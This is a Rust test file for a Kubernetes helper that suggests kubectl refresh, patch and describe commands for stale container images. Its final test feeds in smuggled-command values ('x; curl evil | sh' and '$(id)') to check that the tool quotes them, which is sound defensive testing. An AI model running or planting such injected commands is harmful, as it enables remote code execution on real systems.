//! What to type next: runnable, safe to paste, and in the order of urgency.

use super::*;
use crate::observation::{Pull, Spec};
use crate::release::Run;

const INGESTOR: ManagedImage = ManagedImage::Ingestor;
const JOBS: ManagedImage = ManagedImage::JobsManager;

fn typed(site: &Site) -> Vec<String> {
    let assessed = assess(&site.0);
    commands(&assessed).into_iter().map(str::to_owned).collect()
}

#[test]
fn a_healthy_release_needs_nothing() {
    for site in [
        Site::g1(),
        Site::g2(),
        Site::g7(),
        Site::g10(),
        Site::without_refresher(),
    ] {
        assert_eq!(Vec::<String>::new(), typed(&site));
    }
}

/// A chart upgrade has put the tag back.
fn upgraded(site: &mut Site, image: ManagedImage) {
    site.workload(image).spec = Spec::Tagged {
        reference: tracks(image),
        pull: Pull::Cached,
    };
}

#[test]
fn who_may_not_see_the_nodes_is_told_what_the_latest_is_built_for() {
    let mut site = Site::g2().stuck_ingestor();
    site.annotate(Streak::Failures.key(), "3");
    let why = |site: &Site| {
        let steps = assess(&site.0).next.into_iter();
        let mut moves = steps.filter(|step| step.command.contains(" refresh "));
        moves.next().map(|step| step.why)
    };
    let latest = digest("d361fa778554");
    let plain = format!("move it to {latest} from here");
    assert_eq!(Some(plain.clone()), why(&site));
    site.0.nodes = Err(blind("forbidden"));
    assert_eq!(
        Some(format!(
            "{plain}; it is built for linux/amd64 and linux/arm64"
        )),
        why(&site)
    );
}

#[test]
fn what_is_behind_is_moved_by_one_refresh() {
    let refresh = |images: &str| format!("kubectl tracebloc-images refresh {images} -n tracebloc");
    let rows: Vec<(&str, fn() -> Site, Change, Vec<String>)> = vec![
        ("the refresher believes that it is done, and sets digests", Site::g10, |site| {
            site.know(OLD, BOTH);
            upgraded(site, JOBS);
            site.runs(JOBS, OLD);
        }, vec![refresh("jobs-manager")]),
        ("and the same in the proxy", Site::g10, |site| {
            site.know(OLD, BOTH);
            upgraded(site, ManagedImage::RequestsProxy);
            site.runs(ManagedImage::RequestsProxy, OLD);
        }, vec!["kubectl tracebloc-images refresh -n tracebloc".to_owned()]),
        ("the DaemonSet has its own namespace", Site::g10, |site| {
            site.know(OLD, BOTH);
            upgraded(site, ManagedImage::ResourceMonitor);
            site.runs(ManagedImage::ResourceMonitor, OLD);
        }, vec![refresh("resource-monitor")]),
        ("a restart pulls both", Site::g7, |site| {
            site.know(OLD, BOTH);
            site.runs(JOBS, OLD);
            site.runs(ManagedImage::PodsMonitor, OLD);
        }, vec![refresh("jobs-manager pods-monitor")]),
        ("the environment of the ingestor", Site::g2, |site| {
            behind(site, INGESTOR);
            site.cron_job().run = Run::Suspended;
        }, vec![
            refresh("ingestor"),
            r#"kubectl patch cronjob -n tracebloc berlin-image-refresh -p '{"spec":{"suspend":false}}'"#.to_owned(),
        ]),
        ("nothing is recorded yet", Site::g7, |site| {
            behind(site, JOBS);
            let record = site.0.record.as_mut().expect("a record");
            record.annotations.remove(JOBS.record_key().expect("a key"));
        }, vec![refresh("jobs-manager")]),
        ("what is set already is on its way", Site::g10, |site| {
            site.know(OLD, BOTH);
            site.runs(JOBS, OLD);
        }, vec![]),
        ("a pin stays", Site::g7, |site| {
            behind(site, JOBS);
            site.cron_job().pinned.insert(JOBS);
        }, vec![]),
        ("what nobody manages stays", Site::without_refresher, |site| behind(site, JOBS), vec![]),
        ("what is not known stays", Site::g7, |site| {
            site.workload(JOBS).pods = Err(blind("forbidden"));
            site.workload(JOBS).spec = Spec::Tagged { reference: tracks(JOBS), pull: Pull::Always };
        }, vec![]),
    ];
    for (sentence, site, change, want) in rows {
        let mut site = site();
        change(&mut site);
        assert_eq!(want, typed(&site), "{sentence}");
    }
}

#[test]
fn the_most_urgent_stands_first() {
    let mut site = Site::g10();
    site.annotate(Streak::Attempts.key(), "3");
    site.annotate(Streak::Failures.key(), "1");
    behind(&mut site, JOBS);
    site.workload(JOBS).pods.as_mut().expect("pods")[0].phase = waiting("CrashLoopBackOff", "");
    site.cron_job().run = Run::Suspended;
    assert_eq!(
        vec![
            "kubectl describe pod -n tracebloc berlin-jobs-manager-x2k8p".to_owned(),
            "kubectl tracebloc-images refresh --rearm -n tracebloc".to_owned(),
            r#"kubectl patch cronjob -n tracebloc berlin-image-refresh -p '{"spec":{"suspend":false}}'"#.to_owned(),
            "kubectl annotate -n tracebloc deploy/berlin-jobs-manager tracebloc.io/ingestor-refresh-consecutive-failures-".to_owned(),
        ],
        typed(&site)
    );
}

#[test]
fn each_reason_for_a_job_that_does_not_run_has_its_look() {
    let rows: &[(&str, Change, &str)] = &[
        (
            "overdue",
            |site| site.0.at = time("2026-06-08T10:00:00Z"),
            "kubectl describe cronjob -n tracebloc berlin-image-refresh",
        ),
        (
            "stuck",
            |site| site.0.runs = Ok(vec![active("2026-06-06T09:37:00Z", 0)]),
            "kubectl describe job -n tracebloc berlin-image-refresh-29678977",
        ),
        (
            "failing",
            |site| {
                site.0.runs = Ok([
                    "2026-06-06T09:52:00Z",
                    "2026-06-06T09:37:00Z",
                    "2026-06-06T09:22:00Z",
                ]
                .map(failed)
                .into());
                site.cron_job().last_success = None;
            },
            "kubectl get events -n tracebloc --field-selector involvedObject.kind=Job",
        ),
        (
            "skipping",
            |site| site.annotate(Streak::Skips.key(), "8"),
            "kubectl describe deploy -n tracebloc berlin-jobs-manager",
        ),
    ];
    for (sentence, change, want) in rows {
        let mut site = Site::g10();
        change(&mut site);
        let typed = typed(&site);
        assert!(typed.contains(&(*want).to_owned()), "{sentence}: {typed:?}");
    }
}

#[test]
fn a_silent_failure_sends_to_the_doctor() {
    let mut site = Site::g1().stuck_ingestor();
    let log = "[image-refresh] checking ghcr.io/tracebloc/ingestor:0.3 (x)\n[image-refresh]   WARN: could not resolve latest digest\n";
    site.0.runs = Ok(vec![complete(
        "2026-06-06T09:52:00Z",
        RunLog::Read(log.to_owned()),
    )]);
    assert_eq!(
        "kubectl tracebloc-images doctor -n tracebloc",
        typed(&site)[0]
    );
}

#[test]
fn names_that_a_shell_would_run_are_quoted() {
    let mut site = Site::g10();
    site.0.release.jobs_manager = "x; curl evil | sh".to_owned();
    site.0.release.namespace = "$(id)".to_owned();
    site.annotate(Streak::Attempts.key(), "3");
    behind(&mut site, JOBS);
    let rearm = "kubectl tracebloc-images refresh --rearm -n '$(id)'";
    assert!(
        typed(&site).contains(&rearm.to_owned()),
        "{:?}",
        typed(&site)
    );
}
